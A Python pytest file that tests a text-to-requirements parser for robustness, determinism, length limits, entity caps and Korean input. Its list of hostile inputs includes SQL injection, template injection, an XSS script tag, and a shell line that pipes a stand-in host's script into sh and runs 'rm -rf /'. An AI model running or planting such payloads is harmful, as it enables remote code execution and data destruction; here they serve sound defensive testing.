"""Any input gives valid Requirements or a clear InputError; output is deterministic."""

from __future__ import annotations

import re

import pytest

from tdeveloper.pipeline.nlp import understand
from tdeveloper.pipeline.nlp.understand import MAX_ENTITIES
from tdeveloper.spec import InputError, Requirements
from tdeveloper.spec.options import MAX_DESCRIPTION

_PASCAL = re.compile(r"^[A-Z][A-Za-z0-9]*$")
_SNAKE = re.compile(r"^[a-z][a-z0-9_]*$")

HOSTILE = [
    '"""',
    "'''; DROP TABLE users; -- and tasks with a title",
    "{{ self.__init__.__globals__ }} notes: body",
    "</script><script>alert('x')</script> Gadgets: name, price",
    "$(curl evil.sh | sh) && `id`; rm -rf / ; Orders: total",
    "Widgets \U0001f680: name \U0001f525, weight",
    "\u00c9l\u00e8ves: nom, pr\u00e9nom, \u00e2ge",
    "\u0417\u0430\u043a\u0430\u0437\u044b: \u043d\u043e\u043c\u0435\u0440",
    "word",
    "a",
    "Pets: (",
    ")))((( with with ,,, : : and and",
    "\\x00 \\u0000 \x07 bell",
    "- \n-\n* : \n1. ",
    "Each Have The App It",
    "Tasks:" + " title," * 500,
    ("Crates have a label and a weight. " * 600)[:MAX_DESCRIPTION],
    "z" * MAX_DESCRIPTION,
    ", ".join(f"thing{i}s (size, colour)" for i in range(300)),
    ("we need a system to " * 1000)[:MAX_DESCRIPTION],
    ("Members log visits and " * 900)[:MAX_DESCRIPTION],
    "(" * 5000 + "pets" + ")" * 5000,
]


def _valid(req: Requirements) -> None:
    names = [e.name for e in req.entities]
    assert len(names) == len(set(names))
    for entity in req.entities:
        assert _PASCAL.match(entity.name), entity.name
        fields = [f.name for f in entity.fields]
        assert len(fields) == len(set(fields))
        assert all(_SNAKE.match(f) for f in fields), fields
        for field in entity.fields:
            assert field.type != "enum" or field.values
            assert all(_SNAKE.match(v) or re.match(r"^[0-9][a-z0-9_]*$", v) for v in field.values)
    for rel in req.relations:
        assert rel.source in names
        assert rel.target in names
        assert rel.field is None or _SNAKE.match(rel.field)
    assert "\n" not in req.title
    assert len(req.title) <= 80


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_inputs(text: str) -> None:
    try:
        req = understand(text)
    except InputError as exc:
        message = exc.message
    else:
        _valid(req)
        assert req.description == text
        return
    assert message
    assert "\n" not in message


@pytest.mark.parametrize("text", ["", "   \n\t", "!!! ???", "1234 5678", "((()))", "\U0001f600"])
def test_wordless_input_is_an_input_error(text: str) -> None:
    with pytest.raises(InputError, match="no words"):
        understand(text)


def test_too_long_is_an_input_error() -> None:
    with pytest.raises(InputError, match="too long"):
        understand("a" * (MAX_DESCRIPTION + 1))


def test_non_text_is_an_input_error() -> None:
    with pytest.raises(InputError):
        understand(42)  # type: ignore[arg-type]


def test_deterministic() -> None:
    text = (
        "Clinic: patients (name, birthday), doctors (name, specialty). Patients book "
        "appointments with doctors; admins send reminders. GDPR."
    )
    first = understand(text).model_dump_json()
    assert all(understand(text).model_dump_json() == first for _ in range(5))


def test_ten_entities_are_all_read() -> None:
    text = "\n".join(
        f"- {kind}: name, code, status (open, closed), created at, amount, notes, owner"
        for kind in (
            "Farms", "Barns", "Tractors", "Fields", "Crops", "Harvests", "Buyers",
            "Contracts", "Invoices", "Owners",
        )
    )  # fmt: skip
    req = understand(text)  # speed is measured in bench/, not asserted here
    assert len(req.entities) >= 9


def test_runaway_entity_lists_are_capped() -> None:
    names = (f"widget{chr(97 + i % 26)}{chr(97 + i // 26 % 26)}{i // 676}s" for i in range(450))
    req = understand(", ".join(names))
    assert len(req.entities) == MAX_ENTITIES


def test_korean_description() -> None:
    req = understand(
        "\ub3c4\uc11c\uad00 \uc2dc\uc2a4\ud15c: \ud68c\uc6d0(\uc774\ub984, \uc774\uba54\uc77c), "
        "\ucc45(\uc81c\ubaa9, \uc800\uc790, \uac00\uaca9)\uc744 \uad00\ub9ac\ud569\ub2c8\ub2e4."
    )
    assert req.language == "ko"
    assert [e.name for e in req.entities] == ["Member", "Book"]
    book = {f.name: f.type for f in req.entities[1].fields}
    assert book == {"title": "string", "author": "string", "price": "decimal"}
    assert req.domain == "library"


def test_a_kind_of_app_with_a_list_names_entities() -> None:
    req = understand("a blog with posts and comments")
    assert [e.name for e in req.entities] == ["Post", "Comment"]
    assert any(r.source == "Comment" and r.target == "Post" for r in req.relations)
